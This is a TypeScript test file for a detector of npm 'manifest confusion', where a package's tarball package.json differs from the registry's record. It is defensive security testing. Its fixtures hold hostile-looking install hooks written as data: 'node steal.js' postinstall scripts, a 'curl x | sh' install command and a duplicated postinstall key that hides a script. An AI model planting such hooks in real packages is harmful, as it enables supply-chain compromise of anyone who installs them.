import check from '../../src/checks/manifest-confusion.js';
import { evidence, manifestOf, registryFacts, tarballFacts } from '../support/evidence-builder.js';
import { describe, expect, it } from 'vitest';
import { checkTable, outcomeOf } from './check-table.js';

const registry = registryFacts();
const same = manifestOf(registry);
const withManifest = (manifest: Partial<typeof same>, registryOverrides = {}) =>
  evidence({ registry: registryOverrides, tarball: tarballFacts({ manifest: { ...manifestOf(registryFacts(registryOverrides)), ...manifest } }) });

checkTable(check, [
  { name: 'the same package.json as the packument', evidence: evidence(), score: 100, messageId: 'same', data: { differences: [] } },
  {
    name: 'a postinstall only in the tarball',
    evidence: withManifest({ installScripts: { postinstall: 'node steal.js' } }),
    score: 0,
    messageId: 'different',
    data: { count: 1, differences: ['install script "postinstall" only in the tarball ("node steal.js")'] },
    message: ['postinstall'],
  },
  {
    name: 'another install command in the tarball',
    evidence: withManifest({ installScripts: { install: 'curl x | sh' } }, { installScripts: { install: 'node-gyp rebuild' } }),
    score: 0,
    messageId: 'different',
    data: { differences: ['install script "install": registry "node-gyp rebuild", tarball "curl x | sh"'] },
  },
  {
    name: 'a postinstall named twice in the tarball\'s scripts (parsers differ on which runs)',
    evidence: withManifest({ repeatedKeys: [{ key: 'scripts.postinstall', first: '"echo ok"', last: '"node steal.js"' }] }),
    score: 0,
    messageId: 'different',
    data: { count: 1, differences: ['"scripts.postinstall" twice in the tarball\'s package.json: first "\\"echo ok\\"", last "\\"node steal.js\\""'] },
  },
  {
    name: 'name, version, dependency and bin differ',
    evidence: withManifest({ name: 'evil', version: '9.9.9', dependencies: { 'dep-a': '^1.0.0' }, hasBin: true }),
    score: 0,
    messageId: 'different',
    data: { count: 4 },
  },
  {
    name: 'a version written as npm publishes it cleaned (build metadata, a leading v): the same',
    evidence: withManifest({ version: '1.2.3+e078aa75c40550d826bc35aeee4f45582fb4165e' }, { version: '1.2.3' }),
    score: 100,
    messageId: 'same',
  },
  {
    name: 'a leading v and spaces are cleaned away too',
    evidence: withManifest({ version: ' v1.2.3 ' }, { version: '1.2.3' }),
    score: 100,
    messageId: 'same',
  },
  {
    name: 'another version under the build metadata differs',
    evidence: withManifest({ version: '1.2.4+1.2.3' }, { version: '1.2.3' }),
    score: 0,
    messageId: 'different',
    data: { differences: ['version: registry "1.2.3", tarball "1.2.4+1.2.3"'] },
  },
  {
    name: 'a version npm could not publish is compared as written',
    evidence: withManifest({ version: 'latest' }, { version: '1.2.3' }),
    score: 0,
    messageId: 'different',
    data: { count: 1 },
  },
  {
    name: 'hasInstallScript with no script in either manifest',
    evidence: withManifest({}, { hasInstallScript: true }),
    score: 0,
    messageId: 'different',
    data: { differences: ['the registry says the version has an install script; neither manifest shows one'] },
  },
  {
    name: 'hasInstallScript explained by a binding.gyp',
    evidence: evidence({ registry: { hasInstallScript: true }, tarball: tarballFacts({ manifest: manifestOf(registryFacts()), bindingGyp: true }) }),
    score: 100,
    messageId: 'same',
  },
  {
    name: 'hasInstallScript: false while the tarball has a script',
    evidence: withManifest({ installScripts: { preinstall: 'node x.js' } }, { hasInstallScript: false }),
    score: 0,
    messageId: 'different',
    data: { count: 2 },
  },
  {
    name: 'a package under node_modules/ the tarball\'s package.json does not bundle',
    evidence: evidence({
      tarball: tarballFacts({
        manifest: manifestOf(registryFacts()),
        bundled: [
          { path: 'node_modules/lodash', manifest: null, problem: null, bindingGyp: false, declared: false },
          { path: 'node_modules/lodash/node_modules/ms', manifest: null, problem: null, bindingGyp: false, declared: false },
          { path: 'node_modules/@s/ok', manifest: null, problem: null, bindingGyp: false, declared: true },
        ],
      }),
    }),
    score: 0,
    messageId: 'different',
    data: { count: 1 },
  },
  {
    name: 'no package.json in the tarball',
    evidence: evidence({ tarball: tarballFacts({ manifest: null, manifestProblem: 'the archive has no package.json' }) }),
    score: null,
    messageId: 'unreadable',
    data: { problem: 'the archive has no package.json' },
  },
  {
    name: 'a package.json over the size nerq reads (npm reads it whole)',
    evidence: evidence({ tarball: tarballFacts({ manifest: null, manifestProblem: 'package.json is larger than 1 MiB', manifestOverCap: true }) }),
    score: null,
    messageId: 'unreadable',
    data: { problem: 'package.json is larger than 1 MiB' },
  },
]);

describe('what holds the verdict', () => {
  it('a package.json over the size nerq reads holds it; none in the archive does not', () => {
    expect(outcomeOf(check, evidence({ tarball: tarballFacts({ manifest: null, manifestProblem: 'package.json is larger than 1 MiB', manifestOverCap: true }) })).holdVerdict).toMatch(/; a release whose package\.json can be read would lift this$/);
    expect(outcomeOf(check, evidence({ tarball: tarballFacts({ manifest: null, manifestProblem: 'the archive has no package.json' }) })).holdVerdict).toBeUndefined();
    expect(outcomeOf(check, withManifest({ installScripts: { postinstall: 'node steal.js' } })).holdVerdict).toMatch(/; a release whose tarball says what the registry says would lift this$/);
  });
});
